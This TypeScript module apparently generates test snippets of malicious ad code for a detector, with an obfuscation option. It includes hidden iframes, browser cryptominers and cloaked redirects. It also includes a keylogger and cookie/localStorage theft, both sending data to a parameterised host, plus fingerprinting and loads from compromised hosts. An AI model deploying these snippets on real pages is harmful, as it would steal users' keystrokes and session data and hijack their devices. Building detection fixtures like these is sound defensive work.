import { spelled } from './obfuscation.ts'
import { framedOnly, type Snippet, type SnippetInput, snippet } from './snippet.ts'

/** Attacks that stay unnoticed. */

const frame = (host: string, slot: string, style: string) =>
  `<iframe src="https://${host}/slot/${slot}" width="300" height="250" style="${style}" scrolling="no"></iframe>`

export const hiddenAds = {
  'stacked-frames': ({ host, token }: SnippetInput): Snippet =>
    snippet(
      ['a', 'b', 'c', 'd']
        .map((slot, i) => frame(host, `${token}-${slot}`, `position:absolute;top:0;left:0;border:0;z-index:-${i + 1}`))
        .join(''),
      (match) =>
        `<div style="position:relative;width:300px;height:250px;overflow:hidden;margin-top:-250px">${match}</div>`,
    ),
  'one-pixel-frame': ({ host, token }: SnippetInput): Snippet =>
    snippet(
      frame(host, token, 'width:1px;height:1px;opacity:.01;border:0'),
      (match) => `<span class="m">${match}</span>`,
    ),
  'off-screen-frame': ({ host, token }: SnippetInput): Snippet =>
    snippet(
      frame(host, token, 'position:absolute;left:-9999px;top:-9999px;border:0'),
      (match) => `<div role="none">${match}</div>`,
    ),
}

export const cryptomining = {
  'wasm-miner': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`WebAssembly.instantiateStreaming(fetch(w+'/core.wasm'),{env:{pool:w,key:k,throttle:.6}})`, (match) =>
      framedOnly(
        `var w=${spelled(`https://${host}`, obfuscation)},k='${token}';if(navigator.hardwareConcurrency<4)return;try{${match}}catch(e){}`,
      ),
    ),
  'worker-miner': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`for(var i=0;i<navigator.hardwareConcurrency-1;i++)new Worker(q+'/hash.js?n='+i)`, (match) =>
      framedOnly(`var q=${spelled(`https://${host}/${token}`, obfuscation)};try{${match}}catch(e){}`),
    ),
}

export const cloakedLandingPage = {
  'fingerprint-cloak': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`if(navigator.webdriver||!navigator.plugins.length||screen.width<320)return;l.href=z`, (match) =>
      framedOnly(
        `var l=document.querySelector('a[data-click]'),z=${spelled(`https://${host}/lp?s=${token}`, obfuscation)};if(!l)return;${match};`,
      ),
    ),
  'referrer-cloak': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`l.href=/\\.(example|test)\\//.test(document.referrer)?z:l.href`, (match) =>
      framedOnly(
        `var l=document.querySelector('a[data-click]'),z=${spelled(`https://${host}/offer?s=${token}`, obfuscation)};if(!l)return;${match};`,
      ),
    ),
  'geo-cloak': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`Intl.DateTimeFormat().resolvedOptions().timeZone.indexOf('Europe/')===0&&(l.href=z)`, (match) =>
      framedOnly(
        `var l=document.querySelector('a[data-click]'),z=${spelled(`https://${host}/eu?s=${token}`, obfuscation)};if(!l)return;${match};`,
      ),
    ),
}

export const dataTheft = {
  'canvas-fingerprint': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`g.fillText('Cwm fjordbank glyphs vext quiz',2,15);var h=c.toDataURL().slice(-64)`, (match) =>
      framedOnly(
        `var c=document.createElement('canvas'),g=c.getContext('2d'),y=${spelled(`https://${host}/i?s=${token}`, obfuscation)};g.font='14px Arial';${match};new Image().src=y+'&h='+encodeURIComponent(h);`,
      ),
    ),
  'form-scrape': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`top.document.querySelectorAll('input[type=email],input[autocomplete^=cc]')`, (match) =>
      framedOnly(
        `var y=${spelled(`https://${host}/n?s=${token}`, obfuscation)},v=[];try{${match}.forEach(function(e){v.push(e.name)})}catch(e){}new Image().src=y+'&c='+v.length;`,
      ),
    ),
  'clipboard-read': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`navigator.clipboard.readText().then(function(t){new Image().src=y+'&l='+t.length})`, (match) =>
      framedOnly(
        `var y=${spelled(`https://${host}/b?s=${token}`, obfuscation)};document.addEventListener('click',function(){${match}},{once:true});`,
      ),
    ),
  'storage-read': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`s=[top.document.cookie,JSON.stringify(top.localStorage)].join('|')`, (match) =>
      framedOnly(
        `var s='',y=${spelled(`https://${host}/s?s=${token}`, obfuscation)};try{${match}}catch(e){}navigator.sendBeacon(y,s);`,
      ),
    ),
  keylogging: ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`top.document.addEventListener('keydown',function(e){k+=e.key},true)`, (match) =>
      framedOnly(
        `var k='',y=${spelled(`https://${host}/k?s=${token}`, obfuscation)};${match};setInterval(function(){if(k)new Image().src=y+'&k='+encodeURIComponent(k),k=''},5000);`,
      ),
    ),
  'beacon-storm': ({ host, token, obfuscation }: SnippetInput): Snippet =>
    snippet(`for(var i=0;i<60;i++)new Image().src=y+'&n='+i+'&f='+f`, (match) =>
      framedOnly(
        `var y=${spelled(`https://${host}/px?s=${token}`, obfuscation)},f=encodeURIComponent([navigator.userAgent,screen.width,screen.height,navigator.languages].join());setInterval(function(){${match}},250);`,
      ),
    ),
}

const loaded =
  (path: string) =>
  ({ host, token }: SnippetInput) =>
    snippet(`<script src="https://${host}/${path}?s=${token}" async></script>`, (match) => match)

export const maliciousHost = {
  'known-bad-host': loaded('js/serve.js'),
  'fresh-domain': loaded('t.js'),
  'compromised-host': loaded('wp-content/plugins/slider/cache/x.js'),
}
